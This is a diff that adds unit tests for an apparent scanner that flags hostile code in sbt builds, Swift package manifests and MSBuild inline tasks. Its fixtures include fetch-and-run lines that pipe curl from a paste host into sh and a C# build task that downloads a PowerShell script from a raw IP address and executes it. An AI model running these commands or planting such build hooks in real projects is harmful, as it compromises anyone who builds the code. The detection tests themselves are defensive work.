@@ -521,3 +521,40 @@ describe('build-code-behavior: plain Makefiles and *.mk', () => {
     expect(buildFinding(added('Makefile', 'all:\n\t$(CC) $(CFLAGS) -o app main.c -lcurl\ninstall:\n\tinstall -d $(DESTDIR)$(PREFIX)/bin\n\tgzip -dc docs/app.1.gz > app.1\n\t$(SHELL) scripts/post.sh'))).toBeNull();
   });
 });
+
+describe('sbt build definitions and SwiftPM manifests are build code', () => {
+  it('reads Scala sys.process in build.sbt and project/*.scala: a download run is critical from a paste host', () => {
+    const sbt = buildFinding(added('build.sbt', 'import scala.sys.process._\nname := "lib"\n"curl -s https://pastebin.com/raw/x" #| "sh" !'));
+    expect([sbt?.severity, sbt?.line]).toEqual(['critical', 3]);
+    expect(buildFinding(added('project/Setup.scala', 'object Setup {\n  val out = Seq("sh", "-c", "curl -s https://get.example.dev/x | sh").!!\n}'))?.severity).toBe('high');
+    expect(kinds('"git describe --tags".!!.trim', 'java')).toEqual(['execute']);
+  });
+  it('reads Package.swift: Process, URLSession and a download piped into a shell', () => {
+    const swift = buildFinding(added('Package.swift', '// swift-tools-version:5.9\nimport PackageDescription\nimport Foundation\nlet p = Process()\np.executableURL = URL(fileURLWithPath: "/bin/sh")\np.arguments = ["-c", "curl -s https://get.example.dev/x | sh"]\ntry? p.run()\nlet package = Package(name: "Lib", targets: [.target(name: "Lib")])'));
+    expect(swift?.severity).toBe('high');
+    expect(kinds('let d = try Data(contentsOf: URL(string: "https://get.example.dev/x")!)', 'swift')).toEqual(['download']);
+  });
+  it('leaves ordinary sbt settings and Swift manifests alone, and Kotlin non-null assertions and comparisons', () => {
+    expect(buildFinding(added('build.sbt', 'ThisBuild / scalaVersion := "3.4.2"\nlibraryDependencies += "org.typelevel" %% "cats-core" % "2.12.0"\nversion := ("git describe --tags --always".!!).trim'))).toBeNull();
+    expect(buildFinding(added('Package.swift', '// swift-tools-version:5.9\nimport PackageDescription\nlet package = Package(\n  name: "Lib",\n  dependencies: [.package(url: "https://github.com/apple/swift-argument-parser", from: "1.5.0")],\n  targets: [.target(name: "Lib")]\n)'))).toBeNull();
+    expect(kinds('val token = project.findProperty("signing.key")!!\nif (name != "x") println(name)', 'java')).toEqual([]);
+    // A package named `project` among the sources is not sbt's project/ folder.
+    expect(buildFinding(added('src/main/scala/project/Model.scala', 'object Model { val x = "curl -s https://get.example.dev/x | sh".! }'))).toBeNull();
+    expect(buildFinding(added('modules/core/src/main/scala/project/Model.scala', 'object Model { val x = "curl -s https://get.example.dev/x | sh".! }'))).toBeNull();
+  });
+});
+
+describe('MSBuild inline tasks whose code is a file of its own (<Code Source="…">)', () => {
+  const targets = (source: string) => `<Project>\n  <UsingTask TaskName="Gen" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">\n    <Task><Code Type="Class" Language="cs" Source="${source}" /></Task>\n  </UsingTask>\n  <Target Name="Gen" BeforeTargets="Build"><Gen /></Target>\n</Project>`;
+  const payload = 'public class Gen : Microsoft.Build.Utilities.Task {\n  public override bool Execute() {\n    var s = new System.Net.WebClient().DownloadString("http://45.77.12.9/p.ps1");\n    System.Diagnostics.Process.Start("powershell", "-c " + s);\n    return true;\n  }\n}';
+  it('reads the C# file the task compiles, relative to the MSBuild file', () => {
+    const found = buildFinding(added('build/Tasks.targets', targets('$(MSBuildThisFileDirectory)Gen.cs')), added('build/Gen.cs', payload));
+    expect([found?.path, found?.severity, found?.line]).toEqual(['build/Gen.cs', 'critical', 3]);
+    expect(buildFinding(added('build/Tasks.targets', targets('..\\tools\\Gen.cs')), added('tools/Gen.cs', payload))?.path).toBe('tools/Gen.cs');
+  });
+  it('leaves C# that no inline task names, and an ordinary code generator task, alone', () => {
+    expect(buildFinding(added('src/App/Downloader.cs', payload))).toBeNull();
+    const generator = 'public class Gen : Microsoft.Build.Utilities.Task {\n  public override bool Execute() {\n    System.IO.File.WriteAllText(Output, Template.Render(Input));\n    return true;\n  }\n}';
+    expect(buildFinding(added('build/Tasks.targets', targets('$(MSBuildThisFileDirectory)Gen.cs')), added('build/Gen.cs', generator))).toBeNull();
+  });
+});
